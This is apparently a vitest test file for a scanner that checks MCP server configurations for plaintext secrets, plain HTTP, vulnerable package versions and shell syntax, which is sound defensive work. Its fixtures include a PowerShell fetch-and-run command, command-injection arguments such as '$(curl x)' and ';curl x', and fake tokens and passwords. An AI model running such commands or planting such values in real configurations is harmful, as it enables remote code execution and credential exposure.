// Static checks of one configured server: secrets (detector and key names; references are the safe way), URLs,
// plain HTTP, missing credentials, supply chain with known-vulnerable versions, shell syntax; no noise on ordinary
// entries, masked values, and no exception on any entry.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { unknownTags } from '../../core/taxonomy/index.js';
import type { ConfiguredServer } from '../types.js';
import { CHECKS } from './checks.js';
import { checkServer, KNOWN_VULNERABLE } from './static-checks.js';

const source = { client: 'file' as const, path: '/cfg/mcp.json', scope: 'given' as const };
const server = (o: Partial<ConfiguredServer>): ConfiguredServer => ({
  name: 's',
  source,
  pointer: '/mcpServers/s',
  transport: o.url !== undefined ? 'http' : 'stdio',
  enabled: true,
  ...o,
});
const checks = (o: Partial<ConfiguredServer>) => checkServer(server(o)).map((f) => [f.check, f.severity, f.location.replace('/cfg/mcp.json#/mcpServers/s', '')]);

describe('static checks', () => {
  it('has a catalogue with valid tags, OWASP MCP and LLM ids on every check', () => {
    for (const c of CHECKS) {
      expect(unknownTags(c.tags), c.id).toEqual([]);
      expect(c.tags.owaspMcp?.length, c.id).toBeGreaterThan(0);
      expect(c.tags.owaspLlm?.length, c.id).toBeGreaterThan(0);
      expect(c.help.length).toBeGreaterThan(20);
    }
    expect(new Set(CHECKS.map((c) => c.id)).size).toBe(CHECKS.length);
    expect(KNOWN_VULNERABLE.map((a) => a.package)).toEqual(['mcp-remote', '@modelcontextprotocol/inspector']);
  });

  it('finds plaintext secrets in env, args and headers, masked', () => {
    const token = 'ghp_R7c2Lq9ZxY3vB7nM1pR4sT6uW8yA0dF2hJ5k';
    const findings = checkServer(
      server({
        command: 'node',
        args: ['s.js', '--api-key', 'Zq7Lm2Xv9Rt4Kp8Wn3BdQ', `--token=${token}`, 'DB_PASSWORD=Tr0ub4dor&3xq', 'Authorization: Bearer 9fJ2kLq8ZxY3vB7nM1pR4sT6'],
        env: { GITHUB_TOKEN: token, DB_PASSWORD: 'v9#Lq2!xZr7m', CUSTOM_SECRET: 'c8Hq2Lz9Xv4Rt7Kp3Wn6Bd1M', NODE_ENV: 'production', LOG_LEVEL: 'debug', ROOT: '/home/me/work' },
      }),
    );
    expect(findings.map((f) => [f.check, f.location.split('#')[1]])).toEqual([
      ['secrets.plaintext-env', '/mcpServers/s/env/GITHUB_TOKEN'],
      ['secrets.plaintext-env', '/mcpServers/s/env/DB_PASSWORD'],
      ['secrets.plaintext-env', '/mcpServers/s/env/CUSTOM_SECRET'],
      ['secrets.plaintext-args', '/mcpServers/s/args/2'],
      ['secrets.plaintext-args', '/mcpServers/s/args/3'],
      ['secrets.plaintext-args', '/mcpServers/s/args/4'],
      ['secrets.plaintext-args', '/mcpServers/s/args/5'],
    ]);
    const text = JSON.stringify(findings);
    for (const secret of [token, 'Zq7Lm2Xv9Rt4Kp8Wn3BdQ', 'v9#Lq2!xZr7m', 'c8Hq2Lz9Xv4Rt7Kp3Wn6Bd1M', 'Tr0ub4dor&3xq', '9fJ2kLq8ZxY3vB7nM1pR4sT6']) expect(text).not.toContain(secret.slice(4));
    expect(findings[0]!.message).toBe('env GITHUB_TOKEN holds a secret in plain text: github pat ghp_… (40 chars)');
  });

  it('treats references as the safe way', () => {
    const refs = ['${env:GITHUB_TOKEN}', '${input:github_pat}', '${GITHUB_TOKEN}', '$GITHUB_TOKEN', '%GITHUB_TOKEN%', '{{ github_token }}', '${{ secrets.GITHUB_TOKEN }}', 'Bearer ${env:TOKEN}', ''];
    for (const ref of refs) {
      expect(checks({ command: 'node', args: ['s.js', '--token', ref], env: { GITHUB_TOKEN: ref, API_KEY: ref } }), ref).toEqual([]);
      expect(checks({ url: 'https://x.example/mcp', headers: { Authorization: ref === '' ? 'Bearer ${T}' : ref, 'X-Api-Key': ref } }), ref).toEqual([]);
    }
    // Placeholders people paste instead of values are no findings either.
    expect(checks({ command: 'node', env: { API_KEY: 'your-api-key-here', GITHUB_TOKEN: '<YOUR_TOKEN>', PASSWORD: 'changeme' } })).toEqual([]);
  });

  it('checks remote URLs: plain HTTP off loopback, credentials in the URL, no credentials at all', () => {
    expect(checks({ url: 'http://10.1.2.3/mcp', headers: { Authorization: 'Bearer ${T}' } })).toEqual([['remote.plain-http', 'high', '/url']]);
    for (const local of ['http://localhost:3000/mcp', 'http://127.0.0.1:8080/mcp', 'http://[::1]:9/mcp', 'http://api.localhost/mcp']) {
      expect(checks({ url: local, headers: { 'X-API-Key': '${K}' } }), local).toEqual([]);
    }
    expect(checks({ url: 'https://x.example/mcp?access_token=Zq7Lm2Xv9Rt4Kp8W&page=2' })).toEqual([['secrets.url-credentials', 'high', '/url']]);
    expect(checks({ url: 'https://bob:Hunter2Hunter2x@x.example/mcp' })).toEqual([['secrets.url-credentials', 'high', '/url']]);
    expect(checks({ url: 'https://x.example/mcp?region=eu' })).toEqual([['remote.no-credentials', 'info', '/url']]);
    expect(checks({ url: 'https://x.example/mcp', headers: { Cookie: '${C}' } })).toEqual([]);
    // A remote behind mcp-remote: its URL argument is checked for plain HTTP too.
    expect(checks({ command: 'npx', args: ['-y', 'mcp-remote@0.1.18', 'http://tools.example.com/sse'] })).toEqual([['remote.plain-http', 'high', '/args/2']]);
  });

  it('flags unpinned launches and known-vulnerable versions', () => {
    expect(checks({ command: 'npx', args: ['-y', 'mcp-remote@0.1.15', 'https://x.example/sse'] })).toEqual([['supply-chain.known-vulnerable', 'critical', '/args/1']]);
    expect(checks({ command: 'npx', args: ['-y', 'mcp-remote@0.1.16', 'https://x.example/sse'] })).toEqual([]);
    expect(checks({ command: 'npx', args: ['-y', 'mcp-remote', 'https://x.example/sse'] })).toEqual([['supply-chain.known-vulnerable-unpinned', 'medium', '/args/1']]);
    expect(checks({ command: 'npx', args: ['mcp-remote@^0.1.10', 'https://x.example/sse'] })).toEqual([['supply-chain.known-vulnerable-unpinned', 'medium', '/args/0']]);
    expect(checks({ command: 'npx', args: ['mcp-remote@^0.1.16', 'https://x.example/sse'] })).toEqual([['supply-chain.unpinned-npx', 'medium', '/args/0']]);
    expect(checks({ command: 'npx', args: ['@modelcontextprotocol/inspector@0.14.0'] })).toEqual([['supply-chain.known-vulnerable', 'critical', '/args/0']]);
    expect(checks({ command: 'npx', args: ['@modelcontextprotocol/inspector@0.14.1'] })).toEqual([]);
    expect(checks({ command: 'mcp-remote', args: ['https://x.example/sse'] })).toEqual([['supply-chain.known-vulnerable-unpinned', 'medium', '/command']]);
    expect(checks({ command: 'uvx', args: ['mcp-server-git'] })).toEqual([['supply-chain.unpinned-uvx', 'medium', '/args/0']]);
    expect(checks({ command: 'docker', args: ['run', '-i', '--rm', 'mcp/git:latest'] })).toEqual([['supply-chain.unpinned-docker', 'medium', '/args/3']]);
    expect(checks({ command: 'deno', args: ['run', 'https://deno.land/x/srv/mod.ts'] })).toEqual([['supply-chain.unpinned-deno', 'medium', '/args/1']]);
  });

  it('flags shell syntax and composed shell commands, not plain launches', () => {
    expect(checks({ command: 'sh', args: ['-c', 'npx -y pkg@1.0.0 > /tmp/log'] })).toEqual([['shell.shell-command', 'high', '/args/1']]);
    expect(checks({ command: 'powershell', args: ['-NoProfile', '-Command', 'iex (iwr https://x.example/s.ps1)'] })).toEqual([['shell.shell-command', 'high', '/args/2']]);
    expect(checks({ command: 'cmd', args: ['/c', 'npx', '-y', 'pkg@1.0.0'] })).toEqual([]);
    expect(checks({ command: 'node', args: ['a.js', '$(curl x)'] })).toEqual([['shell.metacharacters', 'high', '/args/1']]);
    expect(checks({ command: 'node', args: ['a.js', '`id`'] })).toEqual([['shell.metacharacters', 'high', '/args/1']]);
    expect(checks({ command: 'node', args: ['a.js;curl x'] })).toEqual([['shell.metacharacters', 'high', '/args/0']]);
    expect(checks({ command: 'node server.js && curl x' })).toEqual([['shell.metacharacters', 'high', '/command']]);
    expect(checks({ command: 'node', args: ['a.js', 'line\nbreak'] })).toEqual([['shell.metacharacters', 'high', '/args/1']]);
    // Ordinary arguments: paths, flags, URLs with query strings, JDBC strings, placeholders.
    expect(checks({ command: 'node', args: ['/opt/srv/index.js', '--port=3000', 'https://x.example/a?b=1&c=2;d', 'jdbc:sqlserver://h;databaseName=x', '<PATH>', 'C:\\Users\\me\\My Documents', 'C:\\data;D:\\backup'] })).toEqual([]);
  });

  it('reports nothing for ordinary servers', () => {
    const clean: Partial<ConfiguredServer>[] = [
      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/Users/me/Desktop'] },
      { command: 'uvx', args: ['mcp-server-fetch==2025.4.7'] },
      { command: 'docker', args: ['run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server:v0.9.1'], env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${env:GITHUB_TOKEN}' } },
      { command: 'python', args: ['-m', 'server'], env: { PYTHONPATH: '/opt/lib', SLACK_TEAM_ID: 'T01234567', MAX_TOKENS: '4096', TOKEN_URL: 'https://auth.example/token' } },
      { url: 'https://api.githubcopilot.com/mcp/', headers: { Authorization: 'Bearer ${input:github_pat}' } },
      { command: '/usr/local/bin/my-server', args: ['--config', '/etc/my-server.yaml', '--verbose'] },
    ];
    for (const c of clean) expect(checks(c), JSON.stringify(c)).toEqual([]);
  });

  it('never throws, whatever the entry holds', () => {
    const str = fc.oneof(fc.string({ maxLength: 60 }), fc.constantFrom('npx', 'uvx', 'docker', 'run', '-y', '--from', 'sh', '-c', 'cmd', '/c', 'http://', 'https://a.b/?token=x', '${x}', '@', '==', 'mcp-remote', ':latest'));
    fc.assert(
      fc.property(
        fc.record({ command: fc.option(str, { nil: undefined }), args: fc.option(fc.array(str, { maxLength: 8 }), { nil: undefined }), env: fc.option(fc.dictionary(str, str), { nil: undefined }), url: fc.option(str, { nil: undefined }), headers: fc.option(fc.dictionary(str, str), { nil: undefined }), transport: fc.constantFrom('stdio', 'http', 'sse') as fc.Arbitrary<ConfiguredServer['transport']> }),
        (o) => {
          const plain = Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined)) as Partial<ConfiguredServer>;
          for (const f of checkServer(server(plain))) expect(typeof f.message).toBe('string');
        },
      ),
      { numRuns: 400 },
    );
  });
});
